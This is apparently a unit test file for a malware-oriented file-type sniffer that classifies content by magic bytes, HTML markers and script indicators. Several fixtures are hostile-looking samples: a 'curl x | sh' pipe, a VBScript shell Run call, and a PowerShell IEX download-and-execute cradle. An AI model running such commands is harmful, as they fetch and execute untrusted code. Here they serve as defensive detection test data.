// True type by content: every signature, and names that only matter for telling scripts apart.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  buildIso,
  buildLnk,
  buildZip,
  minimalPe,
} from '../../../../test/support/weapons/containers.ts';
import { extensionOf, trueType } from './sniff.ts';

const bytes = (...values: number[]): Uint8Array => Uint8Array.from(values);
const text = (value: string): Uint8Array => new TextEncoder().encode(value);
const padded = (head: Uint8Array, size = 64): Uint8Array => {
  const out = new Uint8Array(Math.max(size, head.length));
  out.set(head);
  return out;
};

test('executables are recognised by their headers', () => {
  assert.equal(trueType(minimalPe(), 'invoice.pdf'), 'pe');
  assert.equal(trueType(padded(bytes(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1))), 'elf');
  assert.equal(trueType(padded(bytes(0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1))), 'macho');
  assert.equal(trueType(padded(bytes(0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2))), 'macho');
  // The same magic with a class-file version after it is Java, not Mach-O.
  assert.notEqual(trueType(padded(bytes(0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52))), 'macho');
});

test('MZ without a PE header where the header should be is not a program', () => {
  const fake = padded(text('MZ is where we met'), 512);
  new DataView(fake.buffer).setUint32(0x3c, 0x80, true);
  assert.notEqual(trueType(fake), 'pe');
  assert.equal(trueType(text('MZ corp quarterly report')), 'text');
});

test('zip flavours: plain, OOXML by [Content_Types].xml, ODF by its mimetype entry', async () => {
  assert.equal(trueType(await buildZip([{ name: 'a.txt', bytes: text('hello') }])), 'zip');
  const ooxml = await buildZip([
    { name: 'word/document.xml', bytes: text('<w:document/>') },
    { name: '[Content_Types].xml', bytes: text('<Types/>') },
  ]);
  assert.equal(trueType(ooxml), 'ooxml');
  const odf = padded(text('PK\x03\x04'), 128);
  odf.set(text('mimetypeapplication/vnd.oasis.opendocument.text'), 30);
  assert.equal(trueType(odf), 'odf');
});

test('documents, links, images and archives by magic', () => {
  assert.equal(trueType(bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0)), 'ole');
  assert.equal(trueType(text('{\\rtf1\\ansi hello}')), 'rtf');
  assert.equal(trueType(text('{\\rtxa evasion}')), 'rtf');
  assert.equal(trueType(text('junk before %PDF-1.7\n')), 'pdf');
  assert.equal(trueType(buildLnk({ target: 'C:\\a.exe' })), 'lnk');
  assert.equal(trueType(text('Rar!\x1a\x07\x01\x00')), 'rar');
  assert.equal(trueType(bytes(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4)), '7z');
  assert.equal(trueType(bytes(0x1f, 0x8b, 8, 0)), 'gzip');
  assert.equal(trueType(text('MSCF\0\0\0\0')), 'cab');
  assert.equal(trueType(bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a)), 'image');
  assert.equal(trueType(bytes(0xff, 0xd8, 0xff, 0xe0)), 'image');
  assert.equal(trueType(text('GIF89a')), 'image');
  assert.equal(trueType(bytes(0x00, 0x01, 0x02, 0x03, 0xfe)), 'unknown');
  assert.equal(trueType(new Uint8Array(0)), 'unknown');
});

test('disk images: ISO 9660 and UDF descriptors in sector 16', () => {
  assert.equal(trueType(buildIso([{ name: 'a.txt', bytes: text('x') }])), 'iso');
  const udf = new Uint8Array(0x9800);
  udf.set(text('BEA01'), 0x8001);
  udf.set(text('NSR02'), 0x8801);
  assert.equal(trueType(udf), 'udf');
});

test('HTML after a BOM, whitespace, comments or an XML declaration', () => {
  assert.equal(trueType(text('\uFEFF  \n<!DOCTYPE HTML><html></html>')), 'html');
  assert.equal(trueType(text('<!-- saved from url -->\n<HTML><body>')), 'html');
  assert.equal(trueType(text('<?xml version="1.0"?>\n<svg xmlns="x"><script/></svg>')), 'html');
  assert.equal(trueType(text('<script>location="x"</script>')), 'html');
  assert.equal(trueType(text('an <html> tag mentioned in prose')), 'text');
});

test('scripts by shebang, by name, or by two script indicators', () => {
  assert.equal(trueType(text('#!/bin/sh\ncurl x | sh')), 'script');
  assert.equal(trueType(text('var x = 1;'), 'order.js'), 'script');
  assert.equal(trueType(text('<html><body></body></html>'), 'update.hta'), 'script');
  assert.equal(
    trueType(text('Set s = CreateObject("WScript.Shell")\ns.Run "calc"'), 'readme.txt'),
    'script',
  );
  assert.equal(trueType(text('Please run powershell -File update.ps1 as admin.')), 'text');
  const utf16 = Buffer.concat([
    Buffer.from([0xff, 0xfe]),
    Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://x")', 'utf16le'),
  ]);
  assert.equal(trueType(new Uint8Array(utf16)), 'script');
});

test('extensionOf ignores trailing dots and spaces as Windows does', () => {
  assert.equal(extensionOf('a.EXE'), 'exe');
  assert.equal(extensionOf('a.exe . '), 'exe');
  assert.equal(extensionOf('dir.v2/readme'), '');
  assert.equal(extensionOf('noext'), '');
});

test('an .html file with prose before its first tag is still HTML; WebP is an image', () => {
  const page = text('Your attachment has been downloaded\r\n<html><body><script>x()</script>');
  assert.equal(trueType(page, 'GDydFKtIKR.html'), 'html');
  assert.equal(trueType(page, 'notes.txt'), 'text');
  assert.equal(trueType(text('RIFF\x16n\x01\x00WEBPVP8X')), 'image');
});
